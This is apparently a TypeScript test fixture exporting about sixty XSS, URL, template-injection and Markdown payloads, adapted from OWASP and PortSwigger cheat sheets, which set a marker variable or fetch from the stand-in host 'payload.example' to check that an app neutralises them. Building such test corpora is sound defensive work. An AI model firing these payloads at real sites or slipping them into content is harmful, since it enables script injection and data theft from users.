/** Set by a payload that runs; a page of ours has no such name. */
export const RAN = "pwnedByPayload";
/** Whatever asks it for something was made to by a payload; no name ends in `.example` (RFC 2606). */
export const OUTSIDE = "payload.example";

const RUN = `window.${RAN}=1`;
const AWAY = `//${OUTSIDE}/x`;

/**
 * Texts that would run, load or navigate if any place took them for markup, for an address, for a template or for
 * Markdown: OWASP's XSS filter evasion cheat sheet, PortSwigger's cheat sheet, and what chats add to it.
 */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${AWAY}.js></script>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}.png">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror=${RUN} `,
  `<image src=x onerror=${RUN}>`,
  `<img srcset="${AWAY}.png 1x">`,
  `<picture><source srcset="${AWAY}.png"><img></picture>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:parent.${RAN}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${AWAY}.swf"></object>`,
  `<embed src="${AWAY}">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video autoplay src="${AWAY}.mp4" onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@import '${AWAY}.css';</style>`,
  `<link rel=stylesheet href=${AWAY}.css>`,
  `<link rel=prefetch href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=https:${AWAY}">`,
  `<base href="https:${AWAY}/">`,
  `<form action="https:${AWAY}"><button autofocus>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<div style="background:url(${AWAY}.png)">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `' style='background:url(${AWAY}.png)' x='`,
  `[x](javascript:${RUN})`,
  `![x](https:${AWAY}.png)`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${constructor.constructor('${RUN}')()}`,
];
